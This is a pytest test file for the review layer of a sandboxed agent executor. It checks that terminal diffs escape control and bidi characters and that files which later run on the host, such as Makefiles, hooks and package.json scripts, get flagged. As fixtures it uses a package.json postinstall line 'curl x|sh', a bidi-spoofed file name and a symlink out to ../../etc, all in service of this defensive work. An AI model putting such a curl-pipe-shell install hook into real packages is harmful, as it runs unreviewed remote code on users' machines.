"""What a person reads: inert text, flags on what runs on the host, diffs and summaries."""

from __future__ import annotations

import json
from pathlib import Path

from executor.text import inert
from executor.workspace.changes import Change, Changeset
from executor.workspace.manifest import Entry
from executor.workspace.render import diff, stat_lines, summary
from executor.workspace.risk import flags
from executor.workspace.store import BlobStore


def put(blobs: BlobStore, data: bytes) -> Entry:
    return Entry("file", 0o644, len(data), blobs.put(data))


def test_inert_escapes_control_characters_and_bidi_overrides():
    assert inert("ok\tline\n") == "ok\tline\n"
    assert inert("\x1b[2J\rgone\x08") == "\\x1b[2J\\rgone\\x08"
    assert inert("admin\u202e gnp.exe") == "admin\\u202e gnp.exe"
    assert inert("caf\u00e9 \u4e2d") == "caf\u00e9 \u4e2d"


def test_diff_at_a_terminal_is_inert(tmp_path: Path):
    blobs = BlobStore(tmp_path)
    change = Change("a\x1b]0;x\x07.txt", put(blobs, b"one\n"),
                    put(blobs, b"\x1b[31mred\x1b[0m\rhidden\n"))
    shown = "".join(diff([change], blobs.get, safe=True))
    assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown
    assert "+\\x1b[31mred\\x1b[0m\\rhidden" in shown
    raw = "".join(diff([change], blobs.get, safe=False))
    assert "\x1b[31m" in raw  # piped to a file or patch: the bytes as they are


def test_paths_people_later_run_are_flagged(tmp_path: Path):
    blobs = BlobStore(tmp_path)
    def read(digest: str) -> bytes | None:
        return blobs.get(digest) if blobs.has(digest) else None
    script = put(blobs, b"x")
    assert flags("Makefile", None, script, read) == ["runs on the host (Makefile)"]
    assert flags("tools/deploy.sh", None, script, read) == ["runs on the host (*.sh)"]
    assert flags(".github/workflows/ci.yml", None, script, read) == [
        "CI / GitHub configuration (.github/)"]
    assert flags(".husky/pre-commit", None, script, read) == ["git hooks (.husky/)"]
    assert flags(".gitattributes", None, script, read) == [
        "git configuration (.gitattributes)"]
    assert flags("tools/tool", script, Entry("file", 0o755, 1, script.sha256), read) == [
        "gains the executable bit"]
    assert flags("hooks/post-merge", None, script, read) == ["hooks directory (hooks/)"]
    assert flags("src/hooks/useThing.js", None, script, read) == []  # code, not a hook
    assert flags("docs/a", None, Entry("symlink", target="../../etc"), read) == [
        "link leaving the project (-> ../../etc)"]
    assert flags("src/readme.md", script, script, read) == []
    old = put(blobs, json.dumps({"name": "x", "scripts": {"test": "jest"}}).encode())
    new = put(blobs, json.dumps({"name": "x", "scripts": {"test": "jest",
                                                          "postinstall": "curl x|sh"}}).encode())
    same = put(blobs, json.dumps({"name": "y", "scripts": {"test": "jest"}}).encode())
    assert flags("package.json", old, new, read) == ["package.json scripts changed (postinstall)"]
    assert flags("package.json", old, same, read) == []


def test_stat_and_summary_say_how_to_review_and_apply(tmp_path: Path):
    blobs = BlobStore(tmp_path)
    changes = [Change("src/app.py", put(blobs, b"a\nb\n"), put(blobs, b"a\nc\nd\n"), [], 2, 1),
               Change("run.sh", None, put(blobs, b"x\n"), ["runs on the host (*.sh)"], 1, 0),
               Change("docs", None, Entry("dir"))]
    lines = stat_lines(changes, safe=True)
    assert lines[0].split() == ["M", "src/app.py", "+2", "-1"]
    assert lines[1].endswith("! runs on the host (*.sh)") and lines[2].split() == [
        "A", "docs", "directory"]
    assert lines[-1] == "3 paths changed, +3 -1, 1 flagged for review"
    changeset = Changeset("s1", "/p", changes)
    text = "\n".join(summary(changeset, changes, root="/my proj"))
    assert "your tree is untouched" in text
    assert "sandbox-agent diff --root '/my proj' --session s1" in text
    assert "sandbox-agent apply --root '/my proj' --session s1" in text


def _patch(diff_lines: list[str], old: list[str]) -> list[str]:
    """Apply a unified diff's hunks to `old` (enough of patch(1) to check the diff)."""
    out, i = [], 0
    for line in diff_lines[2:]:
        if line.startswith("@@"):
            first, _, length = line.split()[1][1:].partition(",")
            start = int(first) - (0 if length == "0" else 1)
            out, i = out + old[i:start], start
        elif line[0] == " ":
            out.append(line[1:])
            i += 1
        elif line[0] == "-":
            i += 1
        else:
            out.append(line[1:])
    return out + old[i:]


def test_the_unified_diff_turns_the_old_text_into_the_new():
    import difflib
    import random

    from executor.workspace.render import unified

    rng = random.Random(7)
    for _ in range(2000):
        old = [rng.choice("abcde") + "\n" for _ in range(rng.randint(0, 30))]
        new = list(old)
        for _ in range(rng.randint(0, 5)):
            where = rng.randint(0, len(new))
            if rng.random() < 0.4:
                new.insert(where, rng.choice("vwxyz") + "\n")
            elif new:
                del new[min(where, len(new) - 1)]
        shown = list(unified(old, new, "a/f", "b/f"))
        assert _patch(shown, old) == new
        assert bool(shown) == bool(list(difflib.unified_diff(old, new)))
    many = ["same\n"] * 5000  # difflib alone takes seconds on this; the trimmed matcher does not
    assert list(unified(many, [*many[:2500], "new\n", *many[2500:]], "a", "b"))[2:] == [
        "@@ -2498,6 +2498,7 @@\n", " same\n", " same\n", " same\n", "+new\n", " same\n",
        " same\n", " same\n"]


def test_diff_at_a_terminal_escapes_invisible_characters(tmp_path: Path):
    blobs = BlobStore(tmp_path)
    change = Change("x", None, put(blobs, "a\u200b\u2028\ufeff\U000e0041\u00ad\n".encode()))
    shown = "".join(diff([change], blobs.get, safe=True))
    assert "+a\\u200b\\u2028\\ufeff\\U000e0041\\xad\n" in shown


def test_a_flagged_file_with_a_nul_is_shown_as_text(tmp_path: Path):
    blobs = BlobStore(tmp_path)
    old, new = put(blobs, b"all:\n"), put(blobs, b"all:\n\ttouch x\n#\0\n")
    flagged = Change("Makefile", old, new, ["runs on the host (Makefile)"])
    shown = "".join(diff([flagged], blobs.get, safe=True))
    assert "+\ttouch x\n+#\\x00\n" in shown and "Binary" not in shown
    plain = "".join(diff([Change("data", old, new)], blobs.get, safe=True))
    assert "Binary files differ (5 bytes -> 17 bytes)" in plain


def test_modes_are_shown_as_they_are_and_will_be(tmp_path: Path):
    blobs = BlobStore(tmp_path)
    old, new = put(blobs, b"a\n"), put(blobs, b"b\n")
    executable = Entry("file", 0o755, new.size, new.sha256)
    def headers(change: Change) -> str:
        return "".join(diff([change], blobs.get, safe=True)).split("---")[0]
    assert "mode" not in headers(Change("f", old, new, host_bits=0o600))
    assert "old mode 100600\nnew mode 100700\n" in headers(
        Change("f", old, executable, host_bits=0o600))
    assert "old mode 104755\nnew mode 100755\n" in headers(
        Change("f", executable, executable, host_bits=0o4755))
    assert "deleted file mode 100600\n" in headers(Change("f", old, None, host_bits=0o600))
    assert "old mode 100644\nnew mode 100755\n" in headers(Change("f", old, executable))
